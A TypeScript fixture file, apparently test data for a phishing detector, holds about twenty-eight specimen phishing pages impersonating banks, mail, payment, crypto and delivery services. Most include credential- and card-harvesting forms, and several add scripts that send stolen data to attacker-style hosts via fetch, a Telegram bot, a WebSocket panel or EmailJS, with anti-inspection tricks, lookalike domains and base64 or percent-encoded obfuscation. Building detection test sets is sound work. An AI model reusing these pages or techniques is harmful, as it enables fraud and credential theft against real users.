/**
 * Places that ask for what is not theirs. The pages are specimens: their words are made up, nothing that they post
 * to exists, and what they do is done only as far as it can be seen in the source.
 */
import { bundle, htmlDocument, image, loginStyle, prose, repeated, seeded, stylesheet } from './filler.ts';
import { hostile, type PageFixture } from './fixture.ts';
import { base64Layers, percentEscapes, stringArray } from './obfuscation.ts';

const PHISHING = 'credential phishing';
const idn = (url: string) => new URL(url).href;

/** The look of a page that was saved from elsewhere: much dead weight round one form. */
const saved = (seed: string, from: string) =>
  `<!-- saved from url=(0042)${from} -->\n<style>${stylesheet(seed, 110)}</style>\n<div style="display:none">${prose(seed, 'money', 2)}</div>`;
const noise = (seed: string, length: number) => {
  const random = seeded(`noise ${seed}`);
  return Array.from({ length }, () => Math.floor(random() * 36).toString(36)).join('');
};

export const hostileLogins: PageFixture[] = [
  hostile(
    'payment service, on a name that begins as the real one does',
    PHISHING,
    `https://www.paypal.com-account-limited.info/webscr?cmd=_login-run&dispatch=${noise('pp', 60)}`,
    htmlDocument({
      title: 'Log in to your PayPal account',
      head: `<link rel="icon" href="https://www.paypalobjects.com/webstatic/icon/favicon.ico">${loginStyle('#003087')}`,
      body: `${saved('pp', 'https://www.paypal.com/signin')}<div class="box">${image('pp', 2500, 'PayPal')}<h1>Your account has been limited</h1><p>We noticed unusual activity. Please confirm your identity within 24 hours or your account will be permanently suspended.</p><form action="https://collect-mailer-backoffice.ru/send.php" method="post"><input type="email" name="login_email" placeholder="Email"><input type="password" name="login_password" placeholder="Password"><button>Log In</button></form></div><script>document.addEventListener('contextmenu',function(e){e.preventDefault()});document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.keyCode==85))return false};</script>`,
    }),
  ),
  hostile(
    'office mail at a free host, the victim filled in from the address',
    PHISHING,
    'https://office365-secure-docs.pages.dev/?e=dmljdGltQGV4YW1wbGUub3Jn',
    htmlDocument({
      title: 'Sign in to your Microsoft account',
      head: `<link rel="icon" href="https://aadcdn.msauth.net/shared/1.0/content/images/favicon.ico">${loginStyle('#0067b8')}`,
      body: `<div class="box"><img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo.svg" alt="Microsoft"><h1>Enter password</h1><p id="who"></p><p>Because you're accessing sensitive info, you need to verify your password.</p><form id="f"><input type="password" name="passwd" id="pw"><p id="err" style="display:none;color:#e81123">Your account or password is incorrect.</p><button>Sign in</button></form></div><script>
var who=atob(new URLSearchParams(location.search).get('e')||'');document.getElementById('who').textContent=who;var tries=0;
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('https://o365-results-gate.top/api/r.php',{method:'POST',mode:'no-cors',body:JSON.stringify({user:who,pass:document.getElementById('pw').value,ua:navigator.userAgent})});if(++tries<2){document.getElementById('err').style.display='block';document.getElementById('pw').value='';}else{location.href='https://www.office.com/';}};</script>`,
    }),
    'both',
  ),
  hostile(
    'mail service on a bare address',
    PHISHING,
    'http://203.0.113.47/accounts.google.com/ServiceLogin.php?continue=https://mail.google.com',
    `<html><head><title>Gmail</title>${loginStyle('#1a73e8')}</head><body>${saved('gm', 'https://accounts.google.com/')}<div class="box"><h1>Sign in with your Google Account</h1><form action="post.php" method="post"><input name="Email" type="text" placeholder="Email or phone"><input name="Passwd" type="password" placeholder="Enter your password"><input type="submit" value="Next"></form><p>One Google Account for everything</p></div></body></html>`,
  ),
  hostile(
    'parcel that waits for a small fee',
    'card phishing',
    'https://dhl-parcel-redelivery.top/uk/pay?id=JD0146',
    htmlDocument({
      title: 'DHL Express | Your parcel is on hold',
      head: `<style>${stylesheet('dhl fake', 40)}</style>`,
      body: `<h1 style="background:#fc0;color:#d40511">DHL EXPRESS</h1><p>Your parcel could not be delivered. To release it, please pay the customs fee of <b>£1.99</b>. Unpaid parcels are returned after 48 hours.</p><form action="send.php" method="POST"><input name="fullname" placeholder="Full name"><input name="addr"><input name="phone"><input name="cc" placeholder="Card number" maxlength="19"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV" maxlength="4"><button>Pay £1.99</button></form>`,
    }),
  ),
  hostile(
    'post office by text message',
    'card phishing',
    'https://royalmail.reschedule-fee.click/track.html',
    htmlDocument({
      title: 'Royal Mail - Reschedule delivery',
      head: loginStyle('#da202a'),
      body: `<div class="box"><h1>Royal Mail</h1><p>We tried to deliver your item today. A fee of £1.45 is due.</p><form action="/step2.php" method="post"><input name="name" placeholder="Name on card"><input name="dob" placeholder="Date of birth"><input name="cardnumber"><input name="expiry"><input name="securitycode"><input name="sortcode" placeholder="Sort code"><input name="accno" placeholder="Account number"><button>Continue</button></form></div>`,
    }),
    'lists',
  ),
  hostile(
    'streaming service that wants its card again',
    'card phishing',
    'https://netflix.account-update-billing.click/login?locale=en-GB',
    htmlDocument({
      title: 'Netflix',
      head: `<style>${stylesheet('nf fake', 70)}</style>`,
      body: `<h1 style="color:#e50914">NETFLIX</h1><h2>Your membership is on hold</h2><p>We could not take your last payment. Update your payment details to keep watching.</p><form method="post" action="https://netflix.account-update-billing.click/inc/mailer.php"><input name="email" placeholder="Email"><input type="password" name="password"><input name="ccnum" placeholder="Card number"><input name="ccexp"><input name="cccvv" placeholder="CVV"><button>Restart membership</button></form><script>${stringArray("document.addEventListener('keydown',function(ev){if(ev.keyCode===123){ev.preventDefault();}});setInterval(function(){var t=Date.now();debugger;if(Date.now()-t>100){location.href='https://www.netflix.com';}},900);", 'nf')}</script>`,
    }),
    'both',
  ),
  hostile(
    'tax refund',
    PHISHING,
    'https://hmrc-tax-refund.gov-uk.claims-portal.xyz/gateway',
    htmlDocument({
      title: 'GOV.UK – Claim your tax refund',
      lang: 'en',
      head: loginStyle('#00703c'),
      body: `<header style="background:#0b0c0c;color:#fff">GOV.UK</header><div class="box"><h1>HM Revenue & Customs</h1><p>You are eligible for a tax refund of £412.77. The claim expires today.</p><form action="finish.php" method="post"><input name="nino" placeholder="National Insurance number"><input name="mother" placeholder="Mother's maiden name"><input name="bank" placeholder="Bank"><input name="card"><input name="cvv"><input type="password" name="pass" placeholder="Government Gateway password"><button>Submit claim</button></form></div>${prose('hmrc', 'money', 3)}`,
    }),
  ),
  hostile(
    'bank whose answers go to a chat bot',
    PHISHING,
    'https://chase-online-verify.web.app/signin',
    htmlDocument({
      title: 'Sign in - chase.com',
      head: loginStyle('#117aca'),
      body: `<div class="box"><h1>CHASE</h1><form id="l"><input id="u" placeholder="Username"><input id="p" type="password" placeholder="Password"><button>Sign in</button></form><form id="o" style="display:none"><input id="otp" placeholder="One-time code"><input id="atm" placeholder="ATM PIN"><input id="ssn" placeholder="Social security number"><button>Verify</button></form></div><script>
const bot='7000000001:AAFnotarealtokenbutshapedlikeone00000',chat='-1000000001';
function tell(text){return fetch('https://api.telegram.org/bot'+bot+'/sendMessage?chat_id='+chat+'&text='+encodeURIComponent(text));}
l.onsubmit=async e=>{e.preventDefault();await tell('CHASE | '+u.value+' | '+p.value);l.style.display='none';o.style.display='block';};
o.onsubmit=async e=>{e.preventDefault();await tell('OTP '+otp.value+' PIN '+atm.value+' SSN '+ssn.value);location='https://www.chase.com';};</script>`,
    }),
  ),
  hostile(
    'exchange for cryptocurrency at a builder of free sites',
    PHISHING,
    'https://coinbase-signin-help.weebly.com/',
    htmlDocument({
      title: 'Coinbase Sign In | Secure Crypto Login',
      head: '<link rel="stylesheet" href="//cdn2.editmysite.com/css/sites.css"><script src="//cdn2.editmysite.com/js/site/main.js"></script>',
      body: `<h1>Coinbase® Sign In</h1><form enctype="multipart/form-data" action="//www.weebly.com/weebly/apps/formSubmit.php" method="POST"><input name="_u881" placeholder="Email address"><input name="_u882" type="password" placeholder="Coinbase password"><input name="_u883" placeholder="12-word recovery phrase"><button>Submit</button></form>${prose('cbw', 'crypto', 4)}<p>Powered by Weebly</p>`,
    }),
    'both',
  ),
  hostile(
    'single sign-on of a company, on a name that holds the real one',
    PHISHING,
    'https://haldenworks.okta.com.sso-haldenworks.live/signin',
    htmlDocument({
      title: 'Halden Works - Sign In',
      head: `<link rel="icon" href="https://ok14static.oktacdn.com/assets/favicon.ico">${loginStyle('#00539b')}`,
      body: `<div class="box" id="okta-sign-in"><h1>Sign In</h1><form id="x" method="post" action="/api/v1/relay"><input name="identifier"><input name="credentials.passcode" type="password"><button>Sign in</button></form><form id="mfa" hidden><p>Enter the code from Okta Verify</p><input name="code"></form></div><script>
var s=new WebSocket('wss://panel-live-operators.cc/ws?victim='+Math.random());x.onsubmit=function(e){e.preventDefault();s.send(JSON.stringify(Object.fromEntries(new FormData(x))));x.hidden=true;mfa.hidden=false};s.onmessage=function(m){if(m.data==='done')location='https://haldenworks.okta.com'};mfa.oninput=function(e){if(e.target.value.length===6)s.send('otp:'+e.target.value)};</script>`,
    }),
  ),
  hostile(
    'maker of telephones with a Cyrillic first letter',
    PHISHING,
    idn('https://аpple-id-support.com/verify'),
    htmlDocument({
      title: 'Apple ID – Verify your account',
      head: loginStyle('#0071e3'),
      body: `<div class="box"><h1>Apple ID</h1><p>Your Apple ID has been locked for security reasons.</p><form action="verify2.php" method="post"><input name="appleid" placeholder="Apple ID"><input type="password" name="pass"><button>Unlock</button></form></div>`,
    }),
  ),
  hostile(
    'bank with a dotted letter, in German',
    PHISHING,
    idn('https://www.sparķasse-pushtan.de/anmelden'),
    htmlDocument({
      title: 'Sparkasse Online-Banking – pushTAN-Aktualisierung',
      lang: 'de',
      head: loginStyle('#e00'),
      body: `<div class="box"><h1>Sparkasse</h1><p>Ihre pushTAN-Verbindung läuft heute ab. Bestätigen Sie Ihre Daten, sonst wird Ihr Konto gesperrt.</p><form action="https://tan-aktualisierung-server.su/login.php" method="post"><input name="blz" placeholder="BLZ"><input name="anmeldename" placeholder="Anmeldename"><input type="password" name="pin" placeholder="Online-Banking-PIN"><input name="tel" placeholder="Telefonnummer"><input name="tan" placeholder="TAN"><button>Bestätigen</button></form></div>`,
    }),
    'both',
  ),
  hostile(
    'social network that threatens over copyright',
    PHISHING,
    'https://meta-business-appeal-4471.vercel.app/form',
    htmlDocument({
      title: 'Meta Business Help Center',
      head: `<style>${stylesheet('meta', 40)}</style>`,
      body: `<h1>Facebook: your page is scheduled for deletion</h1><p>Somebody has reported that your page breaks our copyright rules. Appeal within 24 hours, or it will be disabled for good.</p><form id="a"><input name="page"><input name="email"><input name="phone"><input name="password" type="password" placeholder="Facebook password"><button>Submit appeal</button></form><script src="https://cdn.jsdelivr.net/npm/@emailjs/browser@4/dist/email.min.js"></script><script>emailjs.init('notAKey');a.onsubmit=function(e){e.preventDefault();var d=new FormData(a);emailjs.send('svc','tpl',{p:d.get('password'),e:d.get('email'),ip:window.ip});setTimeout(function(){location='https://www.facebook.com/help'},1200)};fetch('https://api.ipify.org?format=json').then(r=>r.json()).then(j=>window.ip=j.ip);</script>`,
    }),
  ),
  hostile(
    'webmail kit in the folders of a garden shop',
    PHISHING,
    'http://garden-tools-oldham.co.uk/wp-content/plugins/wp-mail/webmail/index.php?email=jo@example.org&rand=13InboxLightaspxn',
    htmlDocument({
      title: 'Webmail Login',
      head: loginStyle('#ff6c2c'),
      body: `<div class="box"><h1>Webmail</h1><p style="color:#c00">Your session has expired. Mailbox quota 98% full: sign in to upgrade, or incoming messages will be rejected.</p><form action="next1.php" method="post"><input name="email" value="jo@example.org" readonly><input name="password" type="password" placeholder="Email password"><input name="hidden_ip" type="hidden" value="198.51.100.7"><button>Log in</button></form></div>`,
    }),
  ),
  hostile(
    'document that opens after signing in, on cloud storage',
    PHISHING,
    'https://firebasestorage.googleapis.com/v0/b/docs-inv-88213.appspot.com/o/invoice%2Findex.html?alt=media&token=5c1f',
    htmlDocument({
      title: 'Adobe PDF - Secure document',
      body: `<div style="filter:blur(6px)">${image('invoice', 26_000, 'invoice')}</div><div style="position:fixed;inset:0;background:rgba(0,0,0,.5)"><div style="margin:10% auto;width:360px;background:#fff;padding:20px"><h2>This file is protected</h2><p>Sign in with your email to view INVOICE_88213.pdf</p><form method="post" action="https://westfield-catering-services.co.za/wp-includes/css/adb/post.php"><input name="user" type="email" placeholder="Email"><input name="pass" type="password" placeholder="Email password"><button>View document</button></form></div></div>`,
    }),
    'both',
  ),
  hostile(
    'marketplace membership with a nought',
    PHISHING,
    'https://amaz0n-prime-renewal.shop/ap/signin?openid.return_to=https%3A%2F%2Fwww.amazon.com',
    htmlDocument({
      title: 'Amazon Sign-In',
      head: `<link rel="stylesheet" href="https://images-na.ssl-images-amazon.com/images/I/61.css">${loginStyle('#f90')}`,
      body: `<div class="box"><h1>Sign in</h1><form method="post" action="signin.php"><input name="email"><input type="password" name="password"><button>Sign in</button></form><p>Your Prime membership will renew for $179.99. Sign in to cancel.</p></div>`,
    }),
    'lists',
  ),
  hostile(
    'gamers’ market with a painted browser window',
    PHISHING,
    'https://steamcornmunity-trade.com/tradeoffer/new/?partner=11902&token=Qx',
    htmlDocument({
      title: 'Steam Community :: Trade Offer',
      head: `<style>${stylesheet('steam', 60)}.win{position:fixed;top:80px;left:200px;width:640px;border:1px solid #333;box-shadow:0 10px 60px #000}.bar{background:#dee1e6;padding:6px}.bar input{width:90%;border-radius:12px}</style>`,
      body: `<h1>Trade offer</h1><button id="s">Sign in through STEAM</button><div class="win" id="w" style="display:none"><div class="bar">🔒 <input readonly value="https://steamcommunity.com/openid/login"><span>✕</span></div><iframe src="/frame/login.html" width="640" height="500"></iframe><form action="/api/auth" method="post"><input name="username"><input type="password" name="password"><input name="twofactorcode"><button>Sign In</button></form></div><script>s.onclick=function(){w.style.display='block'};document.querySelector('.bar').onmousedown=function(e){document.onmousemove=function(m){w.style.left=m.clientX+'px'};document.onmouseup=function(){document.onmousemove=null}};</script>`,
    }),
  ),
  hostile(
    'Japanese card',
    'card phishing',
    'https://rakuten-card-co-jp.aqwzx.cn/e-navi/index.php',
    htmlDocument({
      title: '楽天e-NAVI：ログイン',
      lang: 'ja',
      head: loginStyle('#bf0000'),
      body: `<div class="box"><h1>楽天カード</h1><p>お客様のカードは一時的に利用停止されました。本人確認をお願いします。</p><form action="save.php" method="post"><input name="u"><input type="password" name="p"><input name="card" placeholder="カード番号"><input name="cvv" placeholder="セキュリティコード"><button>ログイン</button></form></div>${repeated('rkt', ['二十四時間以内にご確認ください。', 'ご不便をおかけし申し訳ございません。'], 3)}`,
    }),
  ),
  hostile(
    'Brazilian bank and its token',
    PHISHING,
    'https://itau-sincronizar-itoken.online/acesso',
    htmlDocument({
      title: 'Itaú - Sincronização do iToken',
      lang: 'pt-BR',
      head: loginStyle('#ec7000'),
      body: `<div class="box"><h1>Itaú</h1><p>Seu iToken expirou. Sincronize agora para evitar o bloqueio da conta.</p><form action="grava.php" method="post"><input name="agencia"><input name="conta"><input name="senha6" type="password" placeholder="Senha eletrônica"><input name="senha_cartao" type="password" placeholder="Senha do cartão"><input name="itoken" placeholder="Código iToken"><input name="cpf"><button>Sincronizar</button></form></div>`,
    }),
    'both',
  ),
  hostile(
    'kit that is one escaped string',
    PHISHING,
    'https://secure-wellsfargo-alerts.info/index.html',
    `<html><head><meta name="robots" content="noindex"></head><body><script>document.write(unescape('${percentEscapes(`<title>Wells Fargo Sign On</title>${loginStyle('#d71e28')}<div class="box"><h1>Wells Fargo</h1><form action="http://198.51.100.90/wf/result.php" method="post"><input name="user"><input type="password" name="pass"><input name="atm"><input type="submit" value="Sign On"></form></div>`)}'));</script></body></html>`,
  ),
  hostile(
    'kit within base64 within base64',
    PHISHING,
    'https://onedrive-shared-file.glitch.me/',
    `<!DOCTYPE html><html><body><script>${base64Layers(`document.open();document.write(${JSON.stringify(`<title>OneDrive</title><h1>Microsoft OneDrive</h1><p>Sign in to open the file</p><form method=post action=https://drop-zone-logs.site/p.php><input name=e type=email><input name=p type=password><button>Open</button></form>`)});document.close();`, 2)}</script></body></html>`,
  ),
  hostile(
    'health insurance in French',
    PHISHING,
    'https://ameli-renouvellement-carte-vitale.fr-assure.com/connexion',
    htmlDocument({
      title: 'ameli.fr - Votre nouvelle carte Vitale',
      lang: 'fr',
      head: loginStyle('#0c419a'),
      body: `<div class="box"><h1>l'Assurance Maladie</h1><p>Votre nouvelle carte Vitale est disponible. Réglez 0,99 € de frais d'envoi.</p><form action="traitement.php" method="post"><input name="nom"><input name="numsecu"><input name="numcarte" placeholder="Numéro de carte bancaire"><input name="datexp"><input name="crypto" placeholder="Cryptogramme"><button>Valider</button></form></div>`,
    }),
    'lists',
  ),
  hostile(
    'road toll by text message',
    'card phishing',
    'https://ezpassnj.toll-balance-due.vip/us',
    htmlDocument({
      title: 'E-ZPass - Pay toll',
      body: `<h1>E-ZPass</h1><p>Outstanding toll: $6.99. To avoid a late fee of $50 and suspension of your registration, pay today.</p><div id="app"></div><form action="/api/card" method="post"><input name="plate"><input name="name"><input name="zip"><input name="pan" autocomplete="cc-number"><input name="mmYY" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc"><button>Pay now</button></form><script>if(!/iPhone|Android/i.test(navigator.userAgent))location.replace('https://www.google.com');</script><script>${bundle('toll', 30)}</script>`,
    }),
    'both',
  ),
  hostile(
    'mail quota in bare tables',
    PHISHING,
    'http://mailbox-upgrade.tripod.example-hosting.ga/owa/',
    `<HTML><HEAD><TITLE>Outlook Web App</TITLE></HEAD><BODY><TABLE border=0><TR><TD>ITS HELP DESK: all staff must validate their Outlook mailbox to avoid deactivation.</TD></TR><FORM action="https://formsubmit.co/collector.box@outlook-validate.example" method=POST><TR><TD>Domain\\user name: <INPUT name=user></TD></TR><TR><TD>E-mail: <INPUT name=mail></TD></TR><TR><TD>Password: <INPUT type=password name=pass></TD></TR><TR><TD>Confirm password: <INPUT type=password name=pass2></TD></TR><TR><TD><INPUT type=submit value=Validate></TD></TR></FORM></TABLE></BODY></HTML>`,
  ),
  hostile(
    'professional network through a gateway to shared files',
    PHISHING,
    'https://ipfs.io/ipfs/bafybeihq3notarealcontentidentifierbutlongenough2u3a/linkedin.html#jo@example.org',
    htmlDocument({
      title: 'LinkedIn Login, Sign in | LinkedIn',
      head: loginStyle('#0a66c2'),
      body: `<div class="box"><h1>Sign in to LinkedIn</h1><form id="q"><input name="session_key"><input name="session_password" type="password"><button>Sign in</button></form></div><script>var m=location.hash.slice(1);q.session_key.value=m;q.onsubmit=function(e){e.preventDefault();var r=new XMLHttpRequest();r.open('POST','https://lnk-recruit-portal.ru/x/save.php');r.setRequestHeader('Content-Type','application/x-www-form-urlencoded');r.send('u='+encodeURIComponent(q.session_key.value)+'&p='+encodeURIComponent(q.session_password.value));r.onload=function(){location.href='https://'+m.split('@')[1]}};</script>`,
    }),
  ),
  hostile(
    'messenger that asks for its code',
    PHISHING,
    'https://web-telegram-vote.contest-photo.icu/auth',
    htmlDocument({
      title: 'Telegram Web',
      body: `<h1>Vote for Alina in the children's drawing contest!</h1><p>Sign in with Telegram to vote.</p><form id="p" action="/api/phone"><input name="phone" type="tel" placeholder="+"></form><form id="c" action="/api/code" hidden><input name="code" maxlength="5" placeholder="Code from Telegram"><input type="password" name="cloud" placeholder="Cloud password"></form><script>${bundle('tg', 22)};p.onsubmit=async e=>{e.preventDefault();await fetch('/api/phone',{method:'POST',body:new FormData(p)});c.hidden=false};</script>`,
    }),
    'lists',
  ),
  hostile(
    'bank of no known name, on a raw address with a port',
    PHISHING,
    'http://198.51.100.23:8081/norwald/login/index.php?session=3f1c',
    htmlDocument({
      title: 'Norwald Bank – Online banking',
      head: `<base href="https://www.norwaldbank.com/">${loginStyle('#064')}`,
      body: `<div class="box"><h1>Norwald Bank</h1><p>For your safety, enter your full password and memorable word, and the code that we have just sent you.</p><form action="http://198.51.100.23:8081/norwald/login/mail.php" method="post"><input name="customer"><input type="password" name="password"><input type="password" name="word"><input name="sms_code"><button>Continue</button></form></div>${prose('nw', 'money', 4)}`,
    }),
    'both',
  ),
  hostile(
    'photo network with a badge',
    PHISHING,
    'https://instagram-verified-badge.000webhostapp.com/login.php',
    htmlDocument({
      title: 'Instagram • Verified badge',
      head: loginStyle('#e1306c'),
      body: `<div class="box"><h1>Instagram</h1><p>Congratulations, you have been chosen for the blue badge. Confirm your account.</p><form method="post"><input name="username" placeholder="Username"><input name="password" type="password" placeholder="Password"><button>Confirm</button></form></div>`,
    }),
  ),
];
